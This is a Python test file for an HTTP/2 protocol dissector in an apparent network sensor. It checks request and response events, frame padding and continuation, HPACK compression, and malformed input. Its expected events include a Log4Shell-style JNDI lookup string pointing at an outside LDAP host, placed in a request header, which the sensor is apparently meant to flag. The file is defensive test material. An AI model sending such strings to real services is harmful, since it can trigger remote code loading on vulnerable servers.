"""HTTP/2 without TLS: requests and responses as events of HTTP, header compression, other protocols."""

from __future__ import annotations

import struct

import pytest

from sensor.core.dissector import Parsed
from sensor.core.packet import Packet
from sensor.core.reader import Malformed
from sensor.dissectors.http2 import PREFACE, Http2
from sensor.dissectors.shared.hpack import FIELDS_LIMIT, Hpack
from tests.dissectors.samples import events, packets, values

FIELDS = ("host", "user-agent", "accept", "x-api-version", "content-length", "content-type")
FORM = "application/x-www-form-urlencoded"
ODD = (("x-api-version", "${jndi:ldap://198.51.100.7/a}"),)
PATH = "/shop/login?id=1"
EXPECTED = [
    ("HttpRequest", "POST", "127.0.0.1", PATH, "curl/8.14.1", "", "", "", FORM, 7, False, FIELDS, "", ODD, "", ""),
    ("HttpBody", "POST", "127.0.0.1", PATH, "curl/8.14.1", FIELDS, "uname=word:1", ()),
    ("HttpResponse", 200, "nginx/1.26.3", "text/html", 2, (), "", "", "POST", PATH, False, False),
]


def read(*pieces: tuple[bool, bytes]) -> list[Parsed]:
    """The results of the bytes of a connection, from the client or not."""
    stream = Http2().stream(Packet())
    return [one for from_client, data in pieces for one in stream.feed(Packet(), data, from_client)]


def sample() -> list[tuple[bool, bytes]]:
    return [(packet.dport == 8080, bytes(packet.payload)) for packet in packets("http2") if packet.payload]


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack("!HBBBI", len(body) >> 8, len(body) & 0xFF, kind, flags, stream) + body


@pytest.mark.parametrize("size", [1, 7, 5000])
def test_a_request_and_its_response(size: int) -> None:
    """A request of a real program, its form and the response yield the events of HTTP, in segments of any size."""
    pieces = [(side, data[at : at + size]) for side, data in sample() for at in range(0, len(data), size)]
    parsed = read(*pieces)
    assert list(events(parsed)) == EXPECTED
    assert values(parsed) == [("http.user_agent", "curl/8.14.1"), ("http.server", "nginx/1.26.3")]


def test_frames_with_padding_and_continuation() -> None:
    """A header block in two frames, with padding and a priority, is one request."""
    block = b"\x82\x86\x84\x41\x01a"
    first = frame(1, 8 | 32, 1, b"\x02" + bytes(5) + block[:3] + bytes(2))
    parsed = read((True, PREFACE + first + frame(9, 4, 1, block[3:])))
    assert [event[1:4] for event in events(parsed)] == [("GET", "a", "/")]


def test_header_compression() -> None:
    """The examples of RFC 7541, appendix C.4: three requests with Huffman code and one table."""
    table, requests = Hpack(), ("828684418cf1e3c2e5f23a6ba0ab90f4ff", "828684be5886a8eb10649cbf")
    found = [dict(table.fields(bytes.fromhex(block))) for block in requests]
    assert [one[b":authority"] for one in found] == [b"www.example.com"] * 2
    assert found[1][b"cache-control"] == b"no-cache"
    last = table.fields(bytes.fromhex("828785bf408825a849e95ba97d7f8925a849e95bb8e8b4bf"))
    assert last[-2:] == [(b":authority", b"www.example.com"), (b"custom-key", b"custom-value")]


@pytest.mark.parametrize(
    "block",
    [
        b"\xff",
        b"\xff\xff\xff\xff\xff\xff\x01",
        b"\xc6",
        b"\x40",
        b"\x40\x05a",
        b"\x00\x81\x00\x01a",
        b"\x00\x84\xff\xff\xff\xff\x00",
        b"\x82" * (FIELDS_LIMIT + 1),
    ],
)
def test_malformed_header_blocks(block: bytes) -> None:
    """Numbers and texts that end early, unknown fields and codes, and too many fields are malformed."""
    with pytest.raises(Malformed):
        Hpack().fields(block)


def test_every_truncation_of_a_header_block() -> None:
    """A truncated block yields the fields before its end, or is malformed."""
    block = sample()[0][1][-150:]
    for end in range(len(block)):
        try:
            Hpack().fields(block[:end])
        except Malformed:
            continue


def test_a_table_of_limited_size() -> None:
    """The oldest entries leave the table; a smaller one loses more of them."""
    table = Hpack()
    for n in range(200):
        table.fields(b"\x40\x03%03d\x01a" % n)
    assert table.fields(b"\xbe") == [(b"199", b"a")]
    with pytest.raises(Malformed):
        table.fields(b"\x20\xbe")


def test_other_protocols_and_gaps() -> None:
    """Another preface is malformed, and a gap ends the stream."""
    with pytest.raises(Malformed):
        read((True, b"PRI * HTTP/1.1\r\n\r\n"))
    stream = Http2().stream(Packet())
    assert list(stream.gap(Packet(), 100, True)) == []
    assert stream.done
